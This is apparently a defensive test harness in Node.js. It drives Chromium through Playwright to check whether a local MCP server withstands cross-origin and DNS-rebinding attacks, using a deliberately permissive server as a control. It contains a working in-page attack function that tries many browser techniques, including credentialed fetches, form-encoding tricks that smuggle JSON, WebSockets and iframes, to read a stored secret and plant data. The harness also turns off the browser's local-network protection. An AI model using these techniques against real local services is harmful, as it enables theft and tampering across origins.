// Lets pages in a real browser try to use an MCP server of this machine. The
// pages belong to another origin, or to a name that its owner has pointed to this
// machine after the page was loaded (rebinding). The same pages try a gullible
// server first, which shows that each attempt works where nobody guards.
//
// Standard input is {"url", "token", "secret"}: the server, the token that it
// asks for, and a word in its store. Standard output is one JSON object:
// "gullible" and "guarded" with what each attempt read ("got"), and the status of
// every answer that the browser received ("answers").
//
// usage: node browser.mjs <path of a node_modules folder> <chromium>

import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { createRequire } from 'node:module'
import { resolve } from 'node:path'

const [modules, executablePath] = process.argv.slice(2)
const { chromium } = createRequire(resolve(modules, 'any.js'))('playwright-core')
const { url, token, secret } = JSON.parse(readFileSync(0, 'utf8'))
const evil = 'evil.test' // the name that means this machine
const patience = 300_000 // for a machine that is busy

const listen = (server) => new Promise((done) => server.listen(0, '127.0.0.1', () => done(server.address().port)))

// The server that trusts everyone and tells everything.
const gullible = createServer((req, res) => {
  res.setHeader('Access-Control-Allow-Origin', req.headers.origin ?? '*')
  res.setHeader('Access-Control-Allow-Credentials', 'true')
  res.setHeader('Access-Control-Allow-Headers', 'authorization, content-type, mcp-session-id')
  res.setHeader('Access-Control-Expose-Headers', 'mcp-session-id')
  res.setHeader('Mcp-Session-Id', 'any')
  res.setHeader('Content-Type', req.headers.accept === 'text/event-stream' ? 'text/event-stream' : 'text/html')
  req.resume().on('end', () => res.end(`data: ${secret}\n\n`))
})
gullible.on('upgrade', (req, socket) => {
  const accept = createHash('sha1').update(req.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64')
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`)
  socket.end(Buffer.concat([Buffer.from([0x81, secret.length]), Buffer.from(secret)]))
})
const gulliblePort = await listen(gullible)
const pagePort = await listen(createServer((_, res) => res.setHeader('Content-Type', 'text/html').end('<title>a page</title>')))

// Runs in a page: tries everything against a server and says what each attempt
// read.
async function attack({ url, token }) {
  const call = (id, method, params) => JSON.stringify({ jsonrpc: '2.0', id, method, params })
  const begin = call(1, 'initialize', { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'page', version: '1' } })
  const recall = call(2, 'tools/call', { name: 'recall', arguments: { query: 'heron' } })
  const remember = call(3, 'tools/call', { name: 'remember', arguments: { content: 'planted by a page' } })
  // A whole session: what the last answer says.
  const session = async ({ headers = {}, ...options }) => {
    let text = ''
    for (const body of [begin, recall, remember, `[${begin},${remember}]`]) {
      const response = await fetch(url, { method: 'POST', body, headers, ...options })
      text += await response.text()
      const id = response.headers.get('Mcp-Session-Id')
      if (id) headers = { ...headers, 'Mcp-Session-Id': id }
    }
    return text
  }
  const json = { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' }
  const bearer = { ...json, Authorization: `Bearer ${token}` }
  const event = (target, good, read) => new Promise((done) => {
    target.addEventListener(good, (e) => done(read(e)))
    target.addEventListener('error', () => done(''))
    target.addEventListener('close', () => done(''))
  })
  const framed = async (prepare) => {
    const frame = document.createElement('iframe')
    frame.name = `frame${Math.random()}`
    const loaded = new Promise((done) => { frame.onload = done })
    document.body.append(frame)
    await loaded // the empty page
    const answered = new Promise((done) => { frame.onload = done })
    prepare(frame)
    await answered
    const text = frame.contentDocument?.body.textContent ?? ''
    frame.remove()
    return text
  }
  const form = (enctype) => framed((frame) => {
    const form = document.createElement('form')
    Object.assign(form, { method: 'POST', action: url, enctype, target: frame.name })
    const field = document.createElement('input')
    Object.assign(field, { name: remember.slice(0, -1) + ',"x":"', value: '"}' })
    form.append(field)
    document.body.append(form)
    form.submit()
  })
  const attempts = {
    'fetch': () => session({}),
    'fetch with credentials': () => session({ credentials: 'include' }),
    'fetch without credentials': () => session({ credentials: 'omit', referrerPolicy: 'no-referrer' }),
    'fetch of JSON': () => session({ headers: json }),
    'fetch with the token': () => session({ headers: bearer }),
    'fetch with the token and credentials': () => session({ headers: bearer, credentials: 'include' }),
    'fetch without CORS': () => session({ mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, keepalive: true }),
    'GET': async () => (await fetch(url)).text(),
    'GET with the token': async () => (await fetch(url, { headers: bearer })).text(),
    'DELETE with the token': async () => (await fetch(url, { method: 'DELETE', headers: bearer })).text(),
    'EventSource': () => event(new EventSource(url), 'message', (e) => e.data),
    'EventSource with credentials': () => event(new EventSource(url, { withCredentials: true }), 'message', (e) => e.data),
    'WebSocket': () => event(new WebSocket(url.replace('http:', 'ws:')), 'message', (e) => e.data),
    'WebSocket with the token': () => event(new WebSocket(url.replace('http://', `ws://x:${token}@`)), 'message', (e) => e.data),
    'form as text': () => form('text/plain'),
    'form as URL': () => form('application/x-www-form-urlencoded'),
    'frame': () => framed((frame) => { frame.src = url }),
    'picture': () => event(Object.assign(new Image(), { src: url }), 'load', () => 'loaded'),
    'script': () => {
      const script = Object.assign(document.createElement('script'), { src: url })
      document.head.append(script)
      return event(script, 'load', () => 'loaded')
    },
  }
  const results = []
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      results.push({ name, got: await attempt() })
    } catch (refused) {
      results.push({ name, got: '' })
    }
  }
  return results
}

// New browsers ask the user before a page of the network reaches this machine.
// Others do not, so that protection is off.
const browser = await chromium.launch({
  executablePath,
  timeout: patience,
  args: [`--host-resolver-rules=MAP ${evil} 127.0.0.1`, '--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets'],
})

// Opens a page, which an earlier answer of DNS may have led elsewhere, and lets
// it attack.
async function tries(address, target) {
  const context = await browser.newContext()
  context.setDefaultTimeout(patience)
  const page = await context.newPage()
  const answers = []
  const anywhere = () => true
  if (new URL(address).host === new URL(target).host) {
    await page.route(anywhere, (route) => route.fulfill({ contentType: 'text/html', body: '<title>a page</title>' }))
  }
  await page.goto(address)
  await page.unroute(anywhere) // from now on the name means this machine
  page.on('response', (r) => { if (new URL(r.url()).host === new URL(target).host) answers.push(r.status()) })
  const results = await page.evaluate(attack, { url: target, token })
  await page.goto(target).then((r) => r?.text(), () => '').then((got) => results.push({ name: 'visit', got: got ?? '' }))
  await context.close()
  return { page: address, target, results, answers }
}

async function pages(server) {
  const { port, pathname } = new URL(server)
  const named = `http://${evil}:${port}${pathname}`
  return [
    await tries(`http://127.0.0.1:${pagePort}/`, server),
    await tries(`http://localhost:${pagePort}/`, server.replace('127.0.0.1', 'localhost')),
    await tries(`http://${evil}:${pagePort}/`, named),
    await tries(`http://${evil}:${port}/`, named),
    await tries(`http://${evil}:${port}/`, server),
  ]
}

console.log(JSON.stringify({ gullible: await pages(`http://127.0.0.1:${gulliblePort}/mcp`), guarded: await pages(url) }))
await browser.close()
process.exit(0)
